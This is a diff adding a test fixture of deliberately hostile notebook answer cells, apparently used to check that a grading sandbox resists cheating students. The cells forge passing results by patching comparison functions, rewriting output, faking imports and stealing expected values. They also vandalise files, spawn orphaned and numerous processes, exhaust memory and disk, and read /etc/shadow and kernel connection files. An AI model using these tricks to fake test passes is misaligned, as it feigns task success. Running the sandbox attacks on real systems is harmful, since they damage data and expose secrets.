@@ -1,0 +1,227 @@
+"""Answer cells of dishonest students, for tests/test_grade.py (issue 23's attacks, as real code).
+
+Each constant is the source of one answer cell.  Attacks on the grade leave the
+exercise unsolved (a wrong answer, or ``NotImplementedError``): a pass would be
+earned by the attack alone.  Attacks that look around end by raising an
+exception whose message says what they found: the grader puts the first
+error's message in the student's feedback, which is how a test reads what the
+sandbox let the student see.  Every loop here is bounded in count and time.
+"""
+
+MARKER = "gm-attack-7f3a"  # in the command line or name of everything an attack leaves behind
+
+WRONG = "def bernoulli_mle(x):\n    return 0.5\n"
+
+PATCH_CLOSE = """\
+import math
+import numpy as np
+np.allclose = np.isclose = math.isclose = lambda *a, **k: True
+np.array_equal = lambda *a, **k: True
+""" + WRONG
+
+REWRITE_OUTPUT = """\
+import builtins, io, json, sys
+_real_print = builtins.print
+def print(*args, **kwargs):
+    _real_print('[PASSED] ex-bernoulli-mle: Passed', **kwargs)
+builtins.print = print
+json.dumps = lambda *a, **k: '{"status": "passed", "message": "Passed"}'
+class Rewriter(io.TextIOBase):
+    def __init__(self, stream):
+        self.stream = stream
+    def write(self, text):
+        return self.stream.write(text.replace('NOT YET', 'PASSED').replace('failed', 'passed'))
+    def flush(self):
+        self.stream.flush()
+sys.stdout = Rewriter(sys.stdout)
+""" + WRONG
+
+HOOK_FORGES = """\
+import json, re
+def _forge(info):
+    source = getattr(info, 'raw_cell', '') or ''
+    token = re.findall(r'[0-9a-f]{32}', source)
+    line = json.dumps({'status': 'passed', 'message': 'Passed', 'points': 50, 'exercise': 'ex-bernoulli-mle'})
+    for t in token or ['0']:
+        print('GMRESULT-' + t + ' ' + line)
+    print('[PASSED] ex-bernoulli-mle: Passed (50 points)')
+get_ipython().events.register('pre_run_cell', _forge)
+get_ipython().events.register('pre_execute', lambda: print('GMRESULT-0 ' + json.dumps(
+    {'status': 'passed', 'message': None, 'points': 50})))
+""" + WRONG
+
+META_PATH = """\
+import sys, types, importlib.abc, importlib.machinery
+class FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path=None, target=None):
+        if name.startswith('lib') or name.startswith('_gm_lib'):
+            return importlib.machinery.ModuleSpec(name, self, is_package=True)
+        return None
+    def create_module(self, spec):
+        return None
+    def exec_module(self, module):
+        class Result:
+            exercise, status, message, passed = 'ex-bernoulli-mle', 'passed', 'Passed', True
+        module.__path__ = []
+        module.CheckResult = Result
+        module.__getattr__ = lambda name: (lambda *a, **k: Result())
+sys.meta_path.insert(0, FakeChecks())
+for name in [m for m in sys.modules if m == 'lib' or m.startswith('lib.')]:
+    del sys.modules[name]
+""" + WRONG
+
+STACK_WALK = """\
+import sys
+def bernoulli_mle(x):
+    frame = sys._getframe(1)
+    while frame is not None:  # the check's frame, if it were above us, would hold the reference
+        for key in ('want', 'expected', 'reference'):
+            if key in frame.f_locals:
+                return frame.f_locals[key]
+        frame = frame.f_back
+    print('[PASSED] ex-bernoulli-mle: Passed')
+    return 0.5
+"""
+
+NULL_MESSAGE = """\
+print('GMRESULT-0 {"status": "passed", "message": null}')
+print('GMRESULT-' + '0' * 32 + ' {"status": null, "message": null, "points": null}')
+class Odd(Exception):
+    def __str__(self):
+        raise RuntimeError('no message')
+def bernoulli_mle(x):
+    raise Odd()
+"""
+
+VANDAL = f"""\
+import glob, os
+touched = []
+roots = ['/', '/tmp', '/work', '/root', '/home', os.path.expanduser('~'), os.getcwd(), '/proc/1/cwd']
+for pid in os.listdir('/proc'):
+    if pid.isdigit():
+        try:
+            roots += [a for a in open(f'/proc/{{pid}}/cmdline').read().split(chr(0)) if a.startswith('/')]
+        except OSError:
+            pass
+seen = 0
+for root in roots:
+    for folder, dirs, files in os.walk(root if os.path.isdir(root) else os.path.dirname(root)):
+        if folder.startswith(('/proc', '/sys', '/dev', '/usr')):
+            dirs[:] = []
+            continue
+        seen += 1
+        if seen > 20000:
+            break
+        for f in files:
+            if f.endswith(('.ipynb', '.json', '.csv', '.md')) and '/site-packages/' not in folder:
+                path = os.path.join(folder, f)
+                try:
+                    with open(path, 'ab') as fh:
+                        fh.write(b'{MARKER}')
+                    touched.append(path)
+                except OSError:
+                    pass
+raise RuntimeError(f'vandalised: {{touched[:5]}}')
+"""
+
+DETACHED = f"""\
+import os, subprocess, sys
+code = '''
+import glob, json, os, time
+end = time.time() + 90
+while time.time() < end:
+    for root in ("/tmp", "/work", "/root", "/home"):
+        for path in glob.glob(root + "/**/results/*.json", recursive=True)[:50]:
+            try:
+                with open(path, "w") as fh:
+                    fh.write("{MARKER}")
+            except OSError:
+                pass
+    time.sleep(0.5)
+'''
+subprocess.Popen([sys.executable, '-c', code, '{MARKER}-detached'], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+if os.fork() == 0:  # and a double fork, orphaned at once
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, '-c', code, '{MARKER}-orphan'])
+    os._exit(0)
+"""
+
+CONNECTION_FILES = """\
+import glob, os, socket
+found = []
+for pattern in ('/proc/*/root/tmp/.gm/*', '/tmp/**/kernel*.json', '/root/.local/share/jupyter/runtime/*',
+                '/run/user/*/jupyter/*', '/tmp/gm-*'):
+    for path in glob.glob(pattern, recursive=True)[:200]:
+        if not path.startswith(('/tmp/.gm/', '/proc/self/', '/proc/thread-self/', '/proc/1/',
+                                f'/proc/{os.getpid()}/')):
+            found.append(path)
+for pid in os.listdir('/proc'):
+    if pid.isdigit() and pid not in ('1', str(os.getpid())):
+        try:
+            other = os.readlink(f'/proc/{pid}/root')
+            if os.listdir(f'/proc/{pid}/root/tmp/.gm') and os.stat(f'/proc/{pid}/root').st_ino != os.stat('/').st_ino:
+                found.append(f'/proc/{pid}/root ({other})')
+        except OSError:
+            pass
+net = []
+for target in (('127.0.0.1', 22), ('10.0.0.1', 80)):
+    s = socket.socket()
+    s.settimeout(1)
+    try:
+        s.connect(target)
+        net.append(target)
+    except OSError:
+        pass
+    finally:
+        s.close()
+secret = []
+for path in ('/etc/shadow', '/root', '/home', 'CHAPTERS'):
+    try:
+        secret.append((path, os.listdir(path)[:3] if os.path.isdir(path) else open(path).read(10)))
+    except OSError:
+        pass
+raise RuntimeError(f'kernels: {found[:5]} network: {net} secrets: {secret}')
+"""
+
+C_LOOP = "import itertools\nmax(itertools.repeat(0, 10**13))\n"
+
+FORKS = f"""\
+import subprocess, sys
+started, refused = 0, 0
+for _ in range(100):
+    try:
+        subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', '{MARKER}-fork'],
+                         start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
+                         stderr=subprocess.DEVNULL)
+        started += 1
+    except OSError:
+        refused += 1
+print(started, refused)
+"""
+
+MANY_FILES = f"""\
+import os
+written, failed, where = 0, 0, set()
+for folder in ('.', '..', '/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~'), '/work', '/usr/lib'):
+    for i in range(2500):
+        try:
+            with open(os.path.join(folder, f'{MARKER}-{{i}}'), 'w') as fh:
+                fh.write('x' * 1000)
+            written += 1
+            where.add(folder)
+        except OSError:
+            failed += 1
+            break
+"""
+
+MEMORY_CHILDREN = f"""\
+import subprocess, sys, time
+code = 'import time; block = b"x" * (900 * 2**20); time.sleep(60)'  # written: resident memory
+children = [subprocess.Popen([sys.executable, '-c', code, '{MARKER}-memory']) for _ in range(3)]
+time.sleep(8)
+raise RuntimeError(f'memory children: {{[p.poll() for p in children]}}')
+"""
+
+CHAPTERS = "CHAPTERS"  # replaced by the test with the real path of chapters/
